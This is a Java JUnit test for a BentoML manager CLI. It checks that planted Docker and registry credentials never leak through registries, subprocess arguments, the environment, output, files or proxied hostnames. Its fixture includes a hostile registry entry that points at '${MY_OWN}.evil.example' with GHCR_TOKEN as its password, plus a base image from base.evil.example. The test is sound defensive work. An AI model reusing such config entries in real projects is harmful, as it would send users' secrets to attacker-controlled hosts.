package com.bentoml.manager.cli;

import static org.assertj.core.api.Assertions.assertThat;

import com.bentoml.manager.process.StopSignal;
import com.bentoml.manager.project.ProgramEnvironment;
import com.bentoml.manager.registry.HttpRegistry;
import com.bentoml.manager.registry.KnownManifests;
import com.bentoml.manager.registry.Registries;
import com.bentoml.manager.registry.RegistryLimits;
import com.bentoml.manager.testing.Cli;
import com.bentoml.manager.testing.FakeDocker;
import com.bentoml.manager.testing.Program;
import com.bentoml.manager.testing.RegistryServer;
import com.bentoml.manager.testing.RegistryServer.Said;
import com.bentoml.manager.testing.SampleProject;
import com.bentoml.manager.testing.Trees;
import java.io.BufferedReader;
import java.io.IOException;
import java.io.InputStreamReader;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.time.InstantSource;
import java.util.Base64;
import java.util.HashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.CopyOnWriteArrayList;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;

/**
 * Secrets of a user's environment, looked for wherever the whole program can let them out: at a registry, in the
 * arguments and the environment of every program it starts, in its output and its files, and among the names of hosts
 * that it looks up, which it leaves to a proxy.
 */
@Timeout(300)
class PlantedSecretsTest {
    private static final Map<String, String> SECRETS = Map.of(
            "DOCKER_USER", "planted-user",
            "DOCKER_PASS", "planted-docker-pass",
            "DOCKER_PASSWORD", "planted-docker-password",
            "GHCR_TOKEN", "planted-ghcr",
            "QUAY_API_KEY", "planted-quay",
            "REG_KEY", "planted-reg",
            "MY_OWN", "kept-own");

    @TempDir
    Path folder;

    @TempDir
    Path user;

    @TempDir
    Path state;

    private final List<String> names = new CopyOnWriteArrayList<>();
    private RegistryServer registry;
    private ServerSocket proxy;
    private FakeDocker docker;
    private Path record;

    @BeforeEach
    void plant() throws IOException {
        registry = new RegistryServer()
                .otherwise(request -> Said.status(401).with("WWW-Authenticate", "Basic realm=\"x\""));
        proxy = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
        Thread listener = new Thread(this::refuseAll);
        listener.setDaemon(true);
        listener.start();
        docker = new FakeDocker(state);
        record = state.resolve("started");
        Path setsid = state.resolve("bin/setsid");
        Trees.write(
                setsid,
                "#!/bin/sh\n{ echo \"argv: $*\"; env; } >>" + record + "\nPATH=${PATH#*:}\nexec setsid \"$@\"\n");
        Files.setPosixFilePermissions(setsid, PosixFilePermissions.fromString("rwx------"));
        SampleProject.in(folder)
                .template("one/base-dockerfile.j2", "FROM base.evil.example/x:1\n")
                .file(
                        "manifest/registries.yaml",
                        "reg: {server: \"" + registry.host() + "\", provider: harbor2, username_variable: DOCKER_USER,"
                                + " password_variable: REG_KEY}\n"
                                + "leak: {server: \"${MY_OWN}.evil.example\", provider: none, username_variable: EVIL,"
                                + " password_variable: GHCR_TOKEN}\n");
        Trees.write(folder.resolve(".git/HEAD"), "ref: refs/heads/main\n");
        assertThat(run(Map.of(), "generate --bentoml_version 1.0.0 --dump_metadata --registry " + registry.host()))
                .contains("files: ");
        docker.with("fail/" + SampleProject.BASE, said("planted-ghcr planted-reg planted-docker-pass"));
    }

    @AfterEach
    void close() throws IOException {
        registry.close();
        proxy.close();
    }

    @Test
    void noSecretLeavesTheProgram() throws Exception {
        StringBuilder said = new StringBuilder();
        for (String command : List.of(
                "plan -v 5 --output json",
                "audit",
                "build -v 5 --output json --retries 0",
                "build --no_push --force -v 5 --output json --retries 0",
                "build --dry_run -v",
                "push-readmes -v 5",
                "authenticate -v 5",
                "authenticate --check",
                "generate --dump_metadata --bentoml_version 1.0.1")) {
            said.append(command).append('\n').append(run(Map.of(), command));
        }

        assertThat(said.toString())
                .contains("REG_KEY of the environment would go to " + registry.host(), "MY_OWN of the environment");
        assertThat(registry.heard()).isNotEmpty();
        assertThat(Trees.text(record)).contains("argv: ", "docker buildx build", "docker login ");
        assertThat(names).containsOnly("CONNECT base.evil.example:443 HTTP/1.1");
        requireNone(said.toString());
    }

    /** Else none of the above would show anything. */
    @Test
    void theSecretGoesToATrustedRegistryByStdinOnly() throws Exception {
        Process process = Program.in(folder)
                .with(environment(Map.of("MANAGER_TRUSTED_REGISTRIES", registry.host())))
                .startHeard("authenticate", "--registry", "reg", "-v", "5");
        String said = new String(process.getInputStream().readAllBytes(), StandardCharsets.UTF_8);

        assertThat(docker.read("password")).isEqualTo("planted-reg\n");
        docker.with("password", "");
        assertThat(Trees.text(record)).contains("login --username planted-user --password-stdin");
        requireNone((said + Trees.text(record)).replace("planted-user", ""));
    }

    /** docker itself needs it in its arguments. */
    @Test
    void whatIsGivenToABuildIsShownNowhere() {
        docker.with("fail/" + SampleProject.BASE, said("planted-npm"));

        String said = run(
                Map.of(), "build --no_push --force --build_arg NPM_TOKEN=planted-npm -v 5 --output json --retries 0");

        assertThat(docker.read("calls")).contains("NPM_TOKEN=planted-npm");
        assertThat(said).contains("NPM_TOKEN=***", "next:");
        assertThat(said + Trees.read(folder) + Trees.read(user)).doesNotContain("planted");
    }

    /** A failing build that tells a text as it is, and encoded as buildx encodes it. */
    private static String said(String text) {
        String data = Base64.getEncoder().encodeToString((text + "\n").getBytes(StandardCharsets.UTF_8));
        String escaped = text.replace("-", "\\u002d");
        return """
                {"vertexes":[{"digest":"sha256:1","name":"[1/1] RUN %s","started":"2026-01-01T00:00:00Z"}]}
                {"logs":[{"vertex":"sha256:1","data":"%s"}]}
                {"vertexes":[{"digest":"sha256:1","name":"[1/1] RUN %s","started":"2026-01-01T00:00:00Z",\
                "completed":"2026-01-01T00:00:01Z","error":"%s"}]}
                ERROR: echo %s
                """.formatted(escaped, data, escaped, escaped, text);
    }

    private void requireNone(String said) {
        String all = said
                + registry.heard()
                + names
                + docker.read("calls")
                + docker.read("environment")
                + Trees.read(folder)
                + Trees.read(user);
        assertThat(all.replace("--username planted-user", "")).doesNotContain("planted");
        assertThat(Trees.text(record).replace("--username planted-user", "")).doesNotContain("planted");
        assertThat(docker.read("password")).isEmpty();
    }

    private String run(Map<String, String> more, String command) {
        Registries registries = visit -> new HttpRegistry(visit, new RegistryLimits(), new KnownManifests());
        ProgramEnvironment.Run run = new ProgramEnvironment.Run(InstantSource.system(), new StopSignal(), 0);
        Cli.Result result = docker.run(folder, environment(more), registries, run, command.split(" "));
        return result.out() + result.err();
    }

    private Map<String, String> environment(Map<String, String> more) {
        Map<String, String> environment = new HashMap<>(SECRETS);
        environment.put("HOME", user.toString());
        environment.put("FAKE_DOCKER", state.toString());
        environment.put(
                "PATH", state.resolve("bin") + ":" + docker.environment().get("PATH"));
        environment.put("HTTPS_PROXY", "http://127.0.0.1:" + proxy.getLocalPort());
        environment.putAll(more);
        return environment;
    }

    private void refuseAll() {
        while (!proxy.isClosed()) {
            try (Socket client = proxy.accept()) {
                BufferedReader reader =
                        new BufferedReader(new InputStreamReader(client.getInputStream(), StandardCharsets.UTF_8));
                names.add(String.valueOf(reader.readLine()));
                while (!String.valueOf(reader.readLine()).isEmpty()) {
                    // The rest of the request is of no use.
                }
                client.getOutputStream().write("HTTP/1.1 403 No\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
            } catch (IOException e) {
                return;
            }
        }
    }
}
